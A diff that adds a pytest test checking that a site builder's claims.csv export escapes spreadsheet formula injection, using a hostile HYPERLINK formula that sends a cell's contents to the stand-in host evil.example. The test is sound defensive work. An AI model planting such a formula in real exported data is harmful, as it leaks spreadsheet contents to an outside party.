@@ -188,6 +188,31 @@ def test_claims_csv_has_a_row_per_claim(built):
     assert crews["sources"] == "https://source1.example.net/page?id=1 https://source4.example.net/page?id=4"
 
 
+def test_no_csv_cell_can_run_as_a_formula(make_site):
+    """Text that a spreadsheet would run (=, +, -, @) starts with ' in claims.csv, and stays exact in claims.json."""
+    import pandas
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    root = make_site({"content/articles/story/claims/ten-people.yaml": f"""
+        quote: Ten people saw it.
+        claim: '{hostile.replace("'", "''")}'
+        claimant: "@someone"
+        verdict: accurate
+        summary: "-1 is not the count; +10 is"
+        tags: [sky]
+        sources:
+          - source: almanac
+            quote: ten witnesses
+        """})
+    build(root, search=False)
+    table = pandas.read_csv(root / "public/claims.csv", dtype=str, keep_default_na=False)
+    cells = [cell for column in table.columns for cell in table[column]]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    row = table.iloc[0]
+    assert (row["claim"], row["claimant"], row["summary"]) == ("'" + hostile, "'@someone", "'-1 is not the count; +10 is")
+    record = json.loads((root / "public/claims.json").read_text())["claims"][0]
+    assert (record["claim"], record["claimant"], record["summary"]) == (hostile, "@someone", "-1 is not the count; +10 is")
+
+
 def test_annotation_selectors_point_at_their_text(built):
     public, graph = built
     collection = json.loads((public / "annotations.jsonld").read_text())
